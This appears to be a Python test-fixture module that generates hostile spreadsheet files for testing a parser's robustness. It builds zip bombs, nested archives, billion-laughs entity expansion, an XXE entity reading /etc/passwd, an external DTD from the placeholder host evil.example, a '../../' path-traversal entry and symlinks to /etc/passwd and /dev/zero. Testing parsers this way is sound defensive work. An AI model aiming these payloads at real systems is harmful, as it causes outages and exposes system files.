"""Files made to bring a program down that opens them: small on the disk, or endless, or somewhere else."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

Part = bytes | str
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
ODS_KIND = "application/vnd.oasis.opendocument.spreadsheet"
MILLION = 1_000_000


def xlsx(
    rows: str = "", strings: str = "", sheets: int = 1, more: dict[str, Part] | None = None, top: str = ""
) -> bytes:
    """The least workbook: sheets that are all one part, with these rows and shared strings."""
    listed = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, sheets + 1))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts: dict[str, Part] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}">'
        f"<sheets>{listed}</sheets></workbook>",
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{top}'
        f"<sheetData>{rows}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{strings}</sst>',
        **(more or {}),
    }
    return packed(parts)


def ods(tables: str) -> bytes:
    return packed(
        {
            "mimetype": ODS_KIND,
            "META-INF/manifest.xml": "<manifest/>",
            "content.xml": f'<office:document-content xmlns:office="{OFFICE}" xmlns:table="{TABLE}" '
            f'xmlns:text="{TEXT}"><office:body><office:spreadsheet>{tables}</office:spreadsheet>'
            "</office:body></office:document-content>",
        }
    )


def packed(parts: dict[str, Part]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def table(rows: str, name: str = "S") -> str:
    return f'<table:table table:name="{name}">{rows}</table:table>'


def noisy(elements: int, one: str, other: str) -> str:
    """So many elements that do not pack too well, as a cautious reader would notice.

    A packer that looks back 32 kilobytes does not see that they come again after more.
    """
    chance = random.Random(1)  # noqa: S311  (no secret: the same file every time)
    some = 10_000
    return "".join(one if chance.random() < 0.9 else other for _ in range(some)) * (elements // some)


def claiming(size: int) -> bytes:
    """A workbook whose list of parts gives its sheet another size than it has."""
    content = bytearray(xlsx())
    place = content.find(b"PK\x01\x02")
    while content[place + 46 : place + 70] != b"xl/worksheets/sheet1.xml":
        place = content.find(b"PK\x01\x02", place + 4)
    content[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(content)


CELL = '<table:table-cell office:value-type="percentage" office:value="1"'
LONG = random.Random(1).randbytes(MILLION).hex()  # noqa: S311
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
BOMBS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "forty-five megabytes of zeros": lambda: ("a.xlsx", xlsx(more={"xl/z.xml": "0" * 45 * MILLION})),
    "a part that says it has four gigabytes": lambda: ("a.xlsx", claiming(4 * 10**9)),
    "a part that is larger than it says": lambda: ("a.xlsx", claiming(3)),
    "a zip in a zip in a zip": lambda: (
        "a.xlsx",
        xlsx(more={"xl/a.zip": packed({"b.zip": packed({"c.xml": "0" * 30 * MILLION})})}),
    ),
    "billions of cells by its dimension": lambda: ("a.xlsx", xlsx(top='<dimension ref="A1:XFD1048576"/>')),
    "a cell in the last row and column": lambda: (
        "a.xlsx",
        xlsx('<row r="1"><c r="XFD1048576"><v>1</v></c></row>'),
    ),
    "one row nearly four hundred thousand times": lambda: (
        "a.xlsx",
        xlsx('<row r="1"><c r="CV1"><v>1</v></c></row>' + noisy(390_000, '<row r="1"/>', '<row  r="1"/>')),
    ),
    "a million sheets": lambda: ("a.xlsx", xlsx(sheets=MILLION)),
    "nearly four hundred thousand sheets that are one": lambda: ("a.xlsx", xlsx(sheets=390_000)),
    "one part as two sheets": lambda: ("a.xlsx", xlsx(sheets=2)),
    "five million elements": lambda: (
        "a.xlsx",
        xlsx(more={"xl/z.xml": f"<x>{noisy(5 * MILLION, '<a/>', '<b/>')}</x>"}),
    ),
    "two million empty rows": lambda: ("a.xlsx", xlsx(noisy(2 * MILLION, "<row/>", "<row />"))),
    "elements a hundred thousand deep": lambda: (
        "a.xlsx",
        xlsx(more={"xl/z.xml": "<a>" * 100_000 + "</a>" * 100_000}),
    ),
    "one long text in a thousand cells": lambda: (
        "a.xlsx",
        xlsx(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 1001)),
            f"<si><t>{LONG}</t></si>",
        ),
    ),
    "a million laughs": lambda: ("a.xlsx", xlsx(more={"xl/z.xml": f"{LAUGHS}]><x>&a9;</x>"})),
    "an entity from another file": lambda: (
        "a.xlsx",
        xlsx(more={"xl/z.xml": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"}),
    ),
    "an entity from another host": lambda: (
        "a.xlsx",
        xlsx(more={"xl/z.xml": "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><x/>"}),
    ),
    "a part that wants to lie elsewhere": lambda: ("a.xlsx", xlsx(more={"../../evil.xml": "<x>"})),
    "a million laughs of LibreOffice": lambda: (
        "a.ods",
        packed({"mimetype": ODS_KIND, "content.xml": f"{LAUGHS}]><x>&a9;</x>"}),
    ),
    "a cell that is repeated over the whole sheet": lambda: (
        "a.ods",
        ods(
            table(
                f'<table:table-row table:number-rows-repeated="1048576">{CELL} '
                'table:number-columns-repeated="16384"/></table:table-row>'
            )
        ),
    ),
    "half a million cells on each of ninety sheets": lambda: (
        "a.ods",
        ods(
            "".join(
                table(
                    f'<table:table-row table:number-rows-repeated="5000">{CELL} '
                    'table:number-columns-repeated="100"/></table:table-row>',
                    f"S{n}",
                )
                for n in range(90)
            )
        ),
    ),
    "one cell at the far end of each of ninety sheets": lambda: (
        "a.ods",
        ods(
            "".join(
                table(
                    '<table:table-row table:number-rows-repeated="4999"/><table:table-row><table:table-cell '
                    f'table:number-columns-repeated="99"/>{CELL}/></table:table-row>',
                    f"S{n}",
                )
                for n in range(90)
            )
        ),
    ),
    "words without a kind a billion columns away": lambda: (
        "a.ods",
        ods(
            table(
                '<table:table-row><table:table-cell table:number-columns-repeated="1000000000"/>'
                '<table:table-cell office:value-type=""><text:p>a</text:p></table:table-cell>'
                "</table:table-row>"
            )
        ),
    ),
    "words without a kind in a billion columns": lambda: (
        "a.ods",
        ods(
            table(
                '<table:table-row><table:table-cell table:number-columns-repeated="1000000000">'
                "<text:p>a</text:p></table:table-cell></table:table-row>"
            )
        ),
    ),
    "an empty row a billion times before the last": lambda: (
        "a.ods",
        ods(
            table(
                '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell/>'
                "</table:table-row>"
                "<table:table-row><table:table-cell><text:p>a</text:p></table:table-cell></table:table-row>"
            )
        ),
    ),
    "a thousand sheets of LibreOffice": lambda: (
        "a.ods",
        ods("".join(table("", f"S{n}") for n in range(1000))),
    ),
    "a million columns": lambda: ("a.csv", b"a," * MILLION),
    "forty cells of a hundred thousand signs": lambda: ("a.csv", b",".join([b"a" * 100_000] * 40)),
}


def _sparse(file: Path) -> None:
    with file.open("wb") as stream:
        stream.truncate(100 * MILLION)


# Files that are not what a file is.
PLACES: dict[str, Callable[[Path], object]] = {
    "a hundred megabytes": _sparse,
    "a device without an end": lambda file: file.symlink_to("/dev/zero"),
    "a pipe that nobody fills": lambda file: os.mkfifo(file),
    "a folder": lambda file: file.mkdir(),
    "a link to nowhere": lambda file: file.symlink_to("/nowhere/a.xlsx"),
    "a link to a file of the computer": lambda file: file.symlink_to("/etc/passwd"),
}
